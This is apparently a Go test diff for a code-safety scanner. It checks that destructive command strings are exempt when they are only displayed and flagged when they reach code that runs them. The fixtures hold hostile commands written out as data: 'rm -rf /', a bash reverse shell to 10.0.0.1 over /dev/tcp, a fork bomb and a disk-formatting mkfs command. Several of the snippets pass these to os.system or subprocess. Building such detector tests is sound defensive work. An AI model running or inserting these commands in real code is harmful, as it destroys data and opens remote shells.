@@ -186,3 +186,27 @@ func TestServiceAuthenticationMutatedParams(t *testing.T) {
 		{"params read", tg + "p = {'token': T, 'chat_id': 1}\nif p['chat_id']:\n    " + send, "", 0},
 	})
 }
+
+// TestCommandsAsDocsAndTables checks that command strings held only to be shown are not
+// reported: an option's help= or a parser's description=, a DataFrame, a table or a dict
+// of them printed (pandas, tabulate, pprint); and that the same values still are when
+// they reach something that runs them (an option's default=, a DataFrame's column run,
+// a help= given to a function of the code's that runs it, printed help into a shell).
+func TestCommandsAsDocsAndTables(t *testing.T) {
+	const rows = "[{'name': 'wipe', 'cmd': 'rm -rf /'}, {'name': 'rs', 'cmd': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'}]"
+	checkExemptions(t, []exemptionCase{
+		{"argparse help", "import argparse\np = argparse.ArgumentParser(description='cleanup; never rm -rf / here')\np.add_argument('--cmd', help='runs rm -rf / on the target')\na = p.parse_args()\nprint(a.cmd)\n", "", 0},
+		{"click help", "import click\n@click.command(help='wipes with rm -rf / when forced')\n@click.option('--force', is_flag=True, help='really rm -rf / everything')\ndef main(force):\n    click.echo('ok')\n", "", 0},
+		{"DataFrame printed", "import pandas as pd\ndf = pd.DataFrame(" + rows + ")\nprint(df)\nprint(df.head().to_string())\nfor _, row in df.iterrows():\n    print(row['cmd'])\nprint(df.loc[0, 'cmd'])\n", "", 0},
+		{"tabulate", "from tabulate import tabulate\nrows = [['wipe', 'rm -rf /'], ['bomb', ':(){ :|:& };:']]\nprint(tabulate(rows, headers=['name', 'cmd']))\n", "", 0},
+		{"pprint of a dict", "import pprint\nCMDS = {'wipe': 'rm -rf /', 'disk': 'mkfs.ext4 /dev/sda1'}\npprint.pprint(CMDS)\n", "", 0},
+		{"docstring and comment", "def f():\n    \"\"\"Never do rm -rf / in production.\"\"\"\n    return 1  # rm -rf /\nprint(f())\n", "", 0},
+		{"rich console", "from rich.console import Console\nc = Console()\nc.print('never run rm -rf /')\n", "", 0},
+		// Run: each keeps its finding.
+		{"option default run", "import argparse, os\np = argparse.ArgumentParser()\np.add_argument('--cmd', default='rm -rf /', help='command')\na = p.parse_args()\nos.system(a.cmd)\n", "codesafety.destructive", 3},
+		{"DataFrame column run", "import pandas as pd, os\ndf = pd.DataFrame(" + rows + ")\nfor c in df['cmd']:\n    os.system(c)\n", "codesafety.destructive", 2},
+		{"DataFrame cell run", "import pandas as pd, subprocess\ndf = pd.DataFrame(" + rows + ")\nsubprocess.run(df.loc[0, 'cmd'], shell=True)\n", "codesafety.destructive", 2},
+		{"help= to a function that runs it", "import os\ndef add(help):\n    os.system(help)\nadd(help='rm -rf /')\n", "codesafety.destructive", 4},
+		{"help printed into a shell", "import argparse, subprocess, sys\nsh = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nsys.stdout = sh.stdin\np = argparse.ArgumentParser(description='rm -rf / --no-preserve-root')\np.print_help()\n", "codesafety.destructive", 4},
+	})
+}
